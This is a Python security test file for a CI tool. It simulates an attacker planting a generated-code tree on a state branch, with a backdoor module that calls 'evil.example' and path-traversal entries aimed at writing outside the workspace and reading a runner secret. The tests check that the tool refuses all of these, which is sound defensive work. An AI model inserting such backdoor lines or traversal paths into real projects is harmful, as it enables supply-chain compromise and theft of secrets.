"""Generated code comes from the generator, never from a store a state-branch writer can edit
(issue 37, items 2 and 3), and the apply's records name the approved full planHash (item 8).

Attack 1 (High) — a planted new tree. Whoever can push ``averos-state`` knows the key of the
pull request's manifest (``sha256(manifestHash, execution)``, public) and plants
``pristine/trees/<key>.json`` holding the real generated files plus ``gen/backdoor.ts`` and
``../OUTSIDE_WORKSPACE.txt``. Before the fix the patch job showed them, the apply "recomputed"
the same tree, committed the backdoor to main and wrote a file at the checkout root. With and
without a state key (the seal never covered the pristine store).

Attack 2 (Medium) — a planted base tree. An entry ``../../../runner-secret.txt`` that the new
tree lacks was read as "your edits" and, taken as a rename into a generated file, committed to
main. Planted in the tree alone, and in the tree and the (unsealed) state record both.

The regenerating adapter is the mock with ``writeFiles`` (fast; it writes its files the way
the Angular one does, so the store, the merge and the patch are the real ones)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from averos_ci.config import load_config
from averos_ci.execute.adapters import adapter_options, get_adapter
from averos_ci.execute.adapters.identity import execution_identity
from averos_ci.execute.regen.generate import generate
from averos_ci.execute.regen.tree import PristineStore, Tree, tree_key
from averos_ci.manifest.validate import load_manifest
from averos_ci.plan.planner import plan_manifest
from tests.github.gh_fake import FakeGitHub
from tests.github.gh_steps import (
    apply_first_pr,
    approve,
    merge_and_apply,
    open_pr_from_main,
    sticky,
)
from tests.github.gh_world import World, git, make_world, manifest_variant
from tests.security._attack import plant_on_state_branch, show, tree

pytestmark = pytest.mark.slow

STATE_KEY = "st4te-k3y-SECRET-planted-tree-0123"
BACKDOOR = "export const backdoor = () => fetch('https://evil.example/x');\n"
SECRET = "RUNNER-SECRET-7f3c1d2e9b\n"


@pytest.fixture(params=["without_key", "with_key"])
def world(request: pytest.FixtureRequest, tmp_path: Path, fake: FakeGitHub) -> World:
    """Main holds the generated application of PR #1 (applied, committed back)."""
    fake.roles.update(alice="write", bob="write")
    w = make_world(tmp_path, fake, adapter_options={"writeFiles": True})
    if request.param == "with_key":
        w.extra_env["AVEROS_CI_STATE_KEY"] = STATE_KEY
    return apply_first_pr(w)


def _attacker_tree(world: World, manifest_text: str, scratch: Path) -> tuple[str, Tree]:
    """What the attacker computes with the public code: the key of ``manifest_text`` and its
    real generated tree (the generator run on the attacker's own machine)."""
    config = load_config(world.dev / "averos.config.json")
    path = scratch / "todoapp.manifest.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(manifest_text, encoding="utf-8")
    manifest, _ = load_manifest(path)
    execution = execution_identity(config)
    key = tree_key(plan_manifest(manifest, None, execution=execution).plan.manifest_hash, execution)
    gen = generate(
        manifest,
        adapter=get_adapter(config.adapter, adapter_options(config)),
        execution=execution,
        store=PristineStore(scratch / "own-store"),
        scratch_root=scratch / "regen",
    )
    assert gen.key == key and gen.tree is not None
    return key, gen.tree


def _store_files(key: str, planted: Tree, scratch: Path) -> dict[str, str]:
    """The planted tree as the state branch's files under ``default/pristine/``."""
    folder = scratch / "planted-store"
    PristineStore(folder).save(key, planted)
    return {
        f"default/pristine/{p.relative_to(folder).as_posix()}": p.read_text(encoding="utf-8")
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def _outside(world: World) -> list[Path]:
    return sorted((world.root / "jobs").glob("*/OUTSIDE_WORKSPACE.txt"))


def test_a_planted_new_tree_never_reaches_main_nor_leaves_the_workspace(
    world: World, fake: FakeGitHub, tmp_path: Path
) -> None:
    head = open_pr_from_main(world, 2, manifest_variant(2))
    key, real = _attacker_tree(world, manifest_variant(2), tmp_path / "mallory")
    files = dict(real.files)
    files["gen/backdoor.ts"] = BACKDOOR.encode()
    files["../OUTSIDE_WORKSPACE.txt"] = b"written outside\n"
    plant_on_state_branch(world, _store_files(key, Tree(files, real.nodes), tmp_path / "m"))

    assert world.plan_workflow(2, head).plan.code == 0
    body, meta = sticky(fake, 2)
    approve(world, 2, "bob", head)  # the reviewer approves what the comment shows
    r = merge_and_apply(world, "change-2", 2)
    out = r.stdout + r.stderr
    main = tree(world, "refs/heads/main")
    assert not [p for p in main if "backdoor" in p], main  # the attack line
    assert "OUTSIDE_WORKSPACE.txt" not in main, main
    assert _outside(world) == [], out
    assert r.code == 0, out
    assert "backdoor" not in body, body  # the reviewer was shown the generator's code only
    assert "OUTSIDE_WORKSPACE" not in body, body
    # what landed is the generator's tree of the approved manifest
    for path, data in real.files.items():
        assert show(world, "refs/heads/main", f"workspace/{path}") == data.decode().rstrip("\n")
    assert r.outputs["plan-hash"] == meta.plan_hash


def test_a_planted_base_tree_reads_no_file_of_the_runner(
    world: World, fake: FakeGitHub, tmp_path: Path
) -> None:
    (world.root / "runner-secret.txt").write_text(SECRET, encoding="utf-8")
    head = open_pr_from_main(world, 2, manifest_variant(2))
    _, new = _attacker_tree(world, manifest_variant(2), tmp_path / "mallory")
    state = json.loads(world.state_files()["default/state.json"])
    base_key = state["pristine"]["key"]
    _, base = _attacker_tree(world, manifest_variant(1), tmp_path / "mallory-base")
    # a file PR #2 leaves alone, dropped from the base (so the new tree "creates" it) and
    # named as the content of the runner's file: a perfect "rename" of that file into it
    kept = sorted(p for p, data in base.files.items() if new.files.get(p) == data)
    assert kept, "PR #2 must leave a generated file as it is"
    files = {p: data for p, data in base.files.items() if p != kept[0]}
    files["../../../runner-secret.txt"] = base.files[kept[0]]
    plant_on_state_branch(world, _store_files(base_key, Tree(files, {}), tmp_path / "m"))
    assert world.plan_workflow(2, head).plan.code == 0
    approve(world, 2, "bob", head)
    r = merge_and_apply(world, "change-2", 2)
    out = r.stdout + r.stderr
    main = "refs/heads/main"
    leaked = [p for p in tree(world, main) if "RUNNER-SECRET" in (show(world, main, p) or "")]
    assert leaked == [], out  # the attack line
    for c in fake.bot_comments(2):
        assert "RUNNER-SECRET" not in str(c["body"]), out
    assert r.code == 0, out
    assert (world.root / "runner-secret.txt").read_text(encoding="utf-8") == SECRET

    # the same entry in the (unsealed) state record too: the state itself is refused
    head = open_pr_from_main(world, 3, manifest_variant(3))
    state = json.loads(world.state_files()["default/state.json"])
    files = {**state["pristine"]["files"], "../../../runner-secret.txt": "0" * 64}
    forged = {**state, "pristine": {**state["pristine"], "files": files}}
    plant_on_state_branch(world, {"default/state.json": json.dumps(forged)})
    plan = world.plan_workflow(3, head).plan
    out = plan.stdout + plan.stderr
    assert plan.code == 2, out
    assert "refused the path '../../../runner-secret.txt'" in out
    assert "RUNNER-SECRET" not in out + "".join(str(c["body"]) for c in fake.bot_comments(3))


def test_every_record_of_an_apply_names_the_approved_full_plan_hash(
    world: World, fake: FakeGitHub
) -> None:
    head = open_pr_from_main(world, 2, manifest_variant(2))
    assert world.plan_workflow(2, head).plan.code == 0
    _, meta = sticky(fake, 2)
    full, semantic = meta.plan_hash, meta.semantic_hash
    assert semantic and full != semantic  # a regenerating adapter: two hashes
    approve(world, 2, "bob", head)
    r = merge_and_apply(world, "change-2", 2)
    assert r.code == 0, r.stdout + r.stderr
    assert r.outputs["plan-hash"] == full
    applied = [str(c["body"]) for c in fake.bot_comments(2) if "Applied plan" in str(c["body"])]
    assert applied and f"`{full[:12]}`" in applied[-1], applied
    assert semantic[:12] not in applied[-1]
    main_log = git(world.origin, "log", "--format=%s", "main", "-n", "5")
    assert f"generated workspace for plan {full[:12]}" in main_log, main_log
    assert semantic[:12] not in main_log
    state_log = git(world.origin, "log", "--format=%s", "averos-state")
    assert f"claim apply of {full[:12]}" in state_log, state_log
    assert f"applied {full[:12]}" in state_log, state_log
    assert semantic[:12] not in state_log  # progress commits included
    runs = [
        json.loads(text)
        for path, text in world.state_files().items()
        if path.startswith("default/runs/")
    ]
    assert full in [run["planHash"] for run in runs], runs
    assert semantic not in [run["planHash"] for run in runs]
